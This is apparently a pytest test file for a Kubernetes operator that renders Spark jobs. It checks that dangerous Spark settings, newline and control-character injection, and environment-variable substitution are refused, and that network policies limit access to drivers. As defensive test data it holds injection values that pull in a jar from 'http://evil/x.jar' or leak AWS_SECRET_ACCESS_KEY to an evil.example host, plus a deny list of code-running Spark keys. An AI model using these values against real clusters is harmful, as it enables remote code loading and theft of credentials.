"""Settings of Spark that run code, and who reaches drivers and executors."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.operator.restricted import SETTINGS, refusals, rendered
from tests.unit.operator.support import driver_files, flow_analysis, flow_log, model

from isthmus_operator.render import render
from isthmus_operator.render.restrictions import Level, Restrictions, refused
from isthmus_operator.resources import FlowAnalysis, InvalidResourceError, parse


@pytest.mark.parametrize(
    "change",
    [
        {"url": "s3a://bucket/a\nspark.jars x"},
        {"url": "s3a://bucket/a\\"},
        {"endpoint": "https://x\nspark.jars x"},
        {"endpoint": "https://x spark.jars"},
        {"endpoint": "https://${env:AWS_SECRET_ACCESS_KEY}.evil.example"},
        {"region": "eu\nspark.jars x"},
    ],
)
def test_the_place_of_a_flow_log_cannot_begin_another_setting(change: dict[str, str]) -> None:
    place = {"url": "s3a://bucket/a", "endpoint": "https://x:9000", "region": "eu-west-1"}
    parse(flow_log("log", s3=place))
    with pytest.raises(InvalidResourceError):
        parse(flow_log("log", s3={**place, **change}))


@pytest.mark.parametrize(
    "key",
    [
        "spark.jars",
        "spark.jars.packages",
        "spark.jars.repositories",
        "spark.plugins",
        "spark.files",
        "spark.archives",
        "spark.driver.extraJavaOptions",
        "spark.driver.defaultJavaOptions",
        "spark.executor.extraJavaOptions",
        "spark.driver.extraClassPath",
        "spark.executor.extraClassPath",
        "spark.driver.extraLibraryPath",
        "spark.driver.userClassPathFirst",
        "spark.executorEnv.LD_PRELOAD",
        "spark.extraListeners",
        "spark.sql.extensions",
        "spark.sql.catalog.evil",
        "spark.sql.queryExecutionListeners",
        "spark.sql.streaming.streamingQueryListeners",
        "spark.serializer",
        "spark.io.compression.codec",
        "spark.shuffle.manager",
        "spark.metrics.conf",
        "spark.pyspark.python",
        "spark.pyspark.driver.python",
        "spark.redaction.regex",
        "spark.history.fs.logDirectory",
        "spark.hadoop.fs.s3a.aws.credentials.provider",
        "spark.hadoop.fs.s3a.proxy.host",
        "spark.hadoop.hadoop.security.credential.provider.path",
        "spark.driver.resource.gpu.discoveryScript",
        "spark.driver.bindAddress",
        "spark.driver.port",
        "spark.acls.enable",
        "spark.ssl.enabled",
    ],
)
def test_settings_of_spark_that_run_code_or_reach_hosts_are_refused(key: str) -> None:
    (message,) = refusals(flow_analysis("daily", sparkConf={key: "x"}))
    assert f'"{key}"' in message
    assert "restrictions.sparkConf" in message
    assert refusals(flow_analysis("daily", sparkConf={key: "x"}), Restrictions(spark_conf="Any")) == []


@pytest.mark.parametrize("key", ["spark.authenticate", "spark.kubernetes.namespace", "spark.submit.pyFiles"])
def test_settings_that_the_operator_makes_are_refused_whatever_is_allowed(key: str) -> None:
    with pytest.raises(InvalidResourceError, match="sparkConf must have names"):
        parse(flow_analysis("daily", sparkConf={key: "x"}))


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("spark.task.cpus", "1\nspark.jars http://evil/x.jar"),
        ("spark.task.cpus", "1\rspark.jars http://evil/x.jar"),
        ("spark.task.cpus", "1\x00"),
        ("spark.task.cpus\nspark.jars", "1"),
        ("spark.task.cpus=2\tspark.jars", "1"),
        ("spark.task cpus", "1"),
        ("spark.task.cpus:", "1"),
        ("spark.task.cpus\\", "1"),
    ],
)
def test_settings_of_spark_cannot_begin_another_one(key: str, value: str) -> None:
    with pytest.raises(InvalidResourceError):
        parse(flow_analysis("daily", sparkConf={key: value}))


@pytest.mark.parametrize("allowed", ["Safe", "Any"])
@pytest.mark.parametrize("control", ["\n", "\r", "\t", "\x00", "\x7f", "\u0085", "\u2028"])
def test_control_characters_are_refused_also_in_a_resource_that_the_schema_has_not_seen(
    control: str, allowed: Level
) -> None:
    analysis = parse(flow_analysis("daily", sparkConf={"spark.task.cpus": "1"}))
    assert isinstance(analysis, FlowAnalysis)
    for conf in ({"spark.task.cpus": f"1{control}"}, {f"spark.task.cpus{control}": "1"}):
        spec = analysis.spec.model_copy(update={"spark_conf": conf})
        changed = analysis.model_copy(update={"spec": spec})
        (finding,) = refused(changed, Restrictions(spark_conf=allowed))
        assert "has a control character" in finding.message
        assert control not in finding.message


def test_a_value_cannot_join_the_next_line_or_read_the_environment() -> None:
    for value in ("1\\", "${env:AWS_SECRET_ACCESS_KEY}", "\\u000aspark.jars x"):
        (message,) = refusals(flow_analysis("daily", sparkConf={"spark.task.cpus": value}))
        assert "backslash or a substitution" in message


@given(st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=40))
def test_the_file_of_settings_has_one_line_for_each_whatever_is_allowed(value: str) -> None:
    conf = {"spark.x": value}
    found = rendered(flow_analysis("daily", sparkConf=conf), Restrictions(spark_conf="Any"))
    if "daily" not in found.flow_analyses:
        return
    made = {item["kind"]: item for item in found.flow_analyses["daily"].objects}
    lines = driver_files(made.values())["spark-defaults.conf"].split("\n")
    assert all(line.startswith("spark.") for line in lines[:-1])
    assert len([line for line in lines if line.startswith("spark.x ")]) == 1
    (own,) = [line for line in lines if line.startswith("spark.x ")]
    assert not (len(own) - len(own.rstrip("\\"))) % 2, "no line goes on in the next one"


def test_only_its_own_pods_reach_a_driver() -> None:
    found = rendered(flow_analysis("daily"))
    made = {item["kind"]: item for item in found.flow_analyses["daily"].objects}
    policy = made["NetworkPolicy"]["spec"]
    labels = made["Job"]["spec"]["template"]["metadata"]["labels"]
    assert policy["podSelector"]["matchLabels"].items() <= labels.items()
    # This operator runs in no namespace, so no pod is the operator.
    (rule,) = policy["ingress"]
    assert rule == {"from": [{"podSelector": policy["podSelector"]}]}, "no other namespace, no other analysis"


def test_the_operator_alone_reaches_the_user_interface_of_a_driver_and_nothing_else() -> None:
    settings = replace(SETTINGS, operator_namespace="isthmus")
    found = render(model(flow_log("flows"), flow_analysis("daily")), settings)
    made = {item["kind"]: item for item in found.flow_analyses["daily"].objects}
    (rule,) = [rule for rule in made["NetworkPolicy"]["spec"]["ingress"] if "ports" in rule]
    (driver,) = made["Job"]["spec"]["template"]["spec"]["containers"]
    assert [port["containerPort"] for port in driver["ports"]] == [port["port"] for port in rule["ports"]]
    (peer,) = rule["from"]
    assert peer["namespaceSelector"]["matchLabels"] == {"kubernetes.io/metadata.name": "isthmus"}
    assert peer["podSelector"]["matchLabels"] == {"app.kubernetes.io/name": "isthmus-operator"}


def test_the_policy_of_a_driver_holds_for_executors_as_well() -> None:
    found = rendered(flow_analysis("daily"))
    made = {item["kind"]: item for item in found.flow_analyses["daily"].objects}
    selected = made["NetworkPolicy"]["spec"]["podSelector"]["matchLabels"]
    executor = json.loads(driver_files(made.values())["executor.json"])
    assert selected.items() <= executor["metadata"]["labels"].items()


def test_the_files_of_a_driver_are_in_the_template_of_its_pod() -> None:
    """With a ConfigMap, whoever may write ConfigMaps could add options of Java, or a file `spark-env.sh` to run."""
    made = rendered(flow_analysis("daily")).flow_analyses["daily"].objects
    assert set(driver_files(made)) == {"spark-defaults.conf", "executor.json"}
    assert "ConfigMap" not in {item["kind"] for item in made}


@pytest.mark.parametrize("file", ["spark-defaults.conf", "executor.json"])
def test_an_annotation_of_an_author_does_not_replace_a_file_of_the_driver(file: str) -> None:
    metadata = {"annotations": {f"isthmus.dev/{file}": "evil", "example.com/a": "b"}}
    found = rendered(flow_analysis("daily", podTemplate={"metadata": metadata}), Restrictions("Any", "Any"))
    made = {item["kind"]: item for item in found.flow_analyses["daily"].objects}
    assert made["Job"]["spec"]["template"]["metadata"]["annotations"]["example.com/a"] == "b"
    assert driver_files(made.values())[file] != "evil"
